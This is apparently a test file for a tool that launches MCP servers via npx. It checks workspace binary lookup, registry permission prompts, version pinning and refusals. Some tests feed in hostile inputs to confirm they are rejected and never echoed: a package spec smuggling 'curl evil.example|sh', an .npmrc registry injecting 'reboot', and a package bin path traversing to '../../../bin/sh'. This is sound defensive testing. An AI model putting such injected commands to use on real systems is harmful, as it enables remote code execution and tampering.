// Servers by npx and its like: what the workspace has, what is asked of the host, and what is refused at once.
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { temporaryFolder } from '#specs/testing/temporary-folder.ts'
import { prepareLaunch, readRunnerCall } from '../../mcp/package-runner.ts'
import { McpWorld } from './world.ts'

const script = path.join(import.meta.dirname, '../../../test/support/mcp-server.ts')
const npx = (...args: string[]) => ({ transport: 'stdio' as const, command: 'npx', args })
const installed = {
  'node_modules/@acme/echo/package.json': '{"version":"1.2.3","bin":{"acme-echo":"cli.js"}}',
  'node_modules/.bin/acme-echo': `#!/bin/sh\nexec '${process.execPath}' '${script}' "$@"\n`,
}

/** A workspace of these files, and how a server of it is started. */
async function launcher(files: Readonly<Record<string, string>>) {
  const root = await temporaryFolder('runner')
  for (const [name, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, name)), { recursive: true })
    await writeFile(path.join(root, name), content)
  }
  const asked: string[] = []
  const launch = async (config: Parameters<typeof prepareLaunch>[0], decision: 'allow' | 'deny' = 'deny') =>
    await prepareLaunch(config, {
      files: { root },
      askAccess: async (url) => {
        asked.push(url)
        return { decision }
      },
    })
  return { root, asked, launch }
}

describe('an MCP server by npx', () => {
  it('is the program of the workspace where its package is installed, and nothing is asked [A.09]', async () => {
    await using world = await McpWorld.open({
      files: installed,
      mcpServers: { echo: npx('-y', '@acme/echo@latest') },
    })
    expect(world.notes).toEqual([])
    expect(world.addresses).toEqual([])
    expect(world.programs.requests[0]?.argv[0]).toMatch(/\/node_modules\/\.bin\/acme-echo$/)
    expect((await world.tools()).length).toBeGreaterThan(0)
    // What a person allowed is the server as it is configured.
    expect(world.offers).toMatchObject([{ runs: 'npx -y @acme/echo@latest' }])
  })

  it('that is not installed starts nothing where the registry is denied, and says what to do [A.09 G.03]', async () => {
    await using world = await McpWorld.open({
      mcpServers: { echo: npx('-y', '@acme/echo'), other: npx('acme-other') },
    })
    expect(world.programs.requests).toEqual([])
    // Two servers need one address: one question.
    expect(world.addresses).toEqual(['https://registry.npmjs.org/'])
    expect(world.reasons[0]?.split('; ').toSorted()).toEqual([
      "the MCP server's package @acme/echo, by npx",
      "the MCP server's package acme-other, by npx",
    ])
    expect(world.notes.toSorted()[0]).toMatch(
      /^MCP server echo: npx cannot fetch @acme\/echo.*no user is available.*no node_modules\/@acme\/echo.*npm install @acme\/echo.*--allow-host/,
    )
  })

  it('is started by npx, without its own questions, where the registry is allowed [A.09 G.03]', async () => {
    const { launch, asked } = await launcher({})
    const config = { ...npx('-y', 'acme-echo@2.0.0', '--verbose'), env: { npm_config_fetch_retries: '5' } }
    expect(await launch(config, 'allow')).toMatchObject({
      value: {
        isFetched: true,
        config: {
          command: 'npx',
          args: config.args,
          env: { npm_config_yes: 'true', npm_config_fetch_retries: '5' },
        },
      },
    })
    expect(asked).toHaveLength(1)
  })

  it('of an exact version is not another one of the workspace [A.09]', async () => {
    const { launch, root } = await launcher(installed)
    const same = await launch(npx('@acme/echo@1.2.3', 'folder'))
    const command = `${root}/node_modules/.bin/acme-echo`
    expect(same).toMatchObject({ value: { isFetched: false, config: { command, args: ['folder'] } } })
    expect(await launch(npx('@acme/echo@2.0.0'))).toMatchObject({
      error: expect.stringContaining('another version of it (1.2.3)'),
    })
  })

  it('is looked for in its own folder first, and named with its package where both differ [A.09]', async () => {
    const { launch, root } = await launcher({
      ...installed,
      'app/node_modules/echo/package.json': '{"version":"1.0.0","bin":"cli.js"}',
      'app/node_modules/.bin/echo': '',
    })
    const command = `${root}/app/node_modules/.bin/echo`
    expect(await launch({ ...npx('echo'), cwd: '/mnt/workspace/app' })).toMatchObject({
      value: { config: { command, cwd: '/mnt/workspace/app' } },
    })
    expect(await launch(npx('--package=@acme/echo', 'acme-echo', 'x'))).toMatchObject({
      value: { config: { command: `${root}/node_modules/.bin/acme-echo`, args: ['x'] } },
    })
  })

  it('asks for the registry that npm would ask [A.09 G.03]', async () => {
    const { launch, asked } = await launcher({
      '.npmrc': 'registry=https://all.example/npm/\n@acme:registry=http://acme.example:4873/\n',
    })
    await launch(npx('@acme/echo'))
    await launch(npx('echo'))
    await launch({ ...npx('echo'), env: { NPM_CONFIG_REGISTRY: 'https://variable.example/' } })
    await launch(npx('--registry', 'https://option.example/x', 'echo'))
    const refused = await launch(npx('--registry', 'https://user:token@option.example:8443/x', 'echo'))
    expect(JSON.stringify(refused)).not.toContain('token')
    expect(asked).toEqual([
      'http://acme.example:4873/',
      'https://all.example/',
      'https://variable.example/',
      'https://option.example/',
      'https://option.example:8443/',
    ])
  })

  it('words no command to copy: what is no plain version or host is left out of it [A.09]', async () => {
    const { launch } = await launcher({ '.npmrc': 'registry=https://a;reboot;/\n' })
    const bad = await launch(npx('-y', 'acme-echo@1;curl evil.example|sh'))
    expect(bad).toMatchObject({ ok: false, error: expect.stringContaining('(npm install acme-echo), allow') })
    expect(JSON.stringify(bad)).not.toMatch(/curl|--allow-host/)
    const good = await (await launcher({})).launch(npx('acme-echo@^1.2'))
    expect(good).toMatchObject({ error: expect.stringContaining('(npm install acme-echo@^1.2), allow') })
    expect(good).toMatchObject({ error: expect.stringContaining('--allow-host registry.npmjs.org') })
  })

  it('by uvx is refused with what to do, since the VM has no such program [A.09]', async () => {
    const { launch, asked } = await launcher({})
    expect(await launch({ transport: 'stdio', command: 'uvx', args: ['mcp-server-time'] })).toMatchObject({
      ok: false,
      error: expect.stringMatching(/no uvx.*python3/),
    })
    expect(asked).toEqual([])
  })

  it('of any other form is left as it is configured [A.09]', async () => {
    const { launch, asked } = await launcher(installed)
    for (const config of [
      { transport: 'stdio' as const, command: 'node', args: ['npx'] },
      npx('./folder'),
      npx('-c', 'echo hi'),
      npx(),
      { transport: 'stdio' as const, command: 'npm', args: ['run', 'server'] },
      { transport: 'streamable-http' as const, url: 'https://mcp.example.com/mcp' },
    ])
      expect(await launch(config)).toEqual({ ok: true, value: { config, isFetched: false } })
    expect(asked).toEqual([])
  })

  it('is read as npm reads it [A.09]', () => {
    expect(readRunnerCall('npm', ['exec', '--yes', '--', 'a@1', '-x'])).toMatchObject({
      packages: ['a@1'],
      args: ['-x'],
    })
    expect(readRunnerCall('npm', ['x', 'a', '--', '--flag'])).toMatchObject({ args: ['--flag'] })
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string(), fc.constantFrom('-y', '-p', '--', 'exec')), { maxLength: 8 }),
        (args) => {
          const call = readRunnerCall('npx', args)
          if (call !== null) expect(args.slice(args.length - call.args.length)).toEqual(call.args)
        },
      ),
      { seed: 9, numRuns: 300 },
    )
  })

  it('takes no program from outside of the workspace, whatever its package says [A.09]', async () => {
    const { launch } = await launcher({
      'node_modules/evil/package.json': '{"version":"1.0.0","bin":{"../../../bin/sh":"x"}}',
      'node_modules/odd/package.json': '[',
    })
    for (const name of ['evil', 'odd', '../../etc'])
      expect(JSON.stringify(await launch(npx(name)))).not.toContain('.bin/..')
    expect(await launch(npx('evil'))).toMatchObject({ ok: false })
  })
})
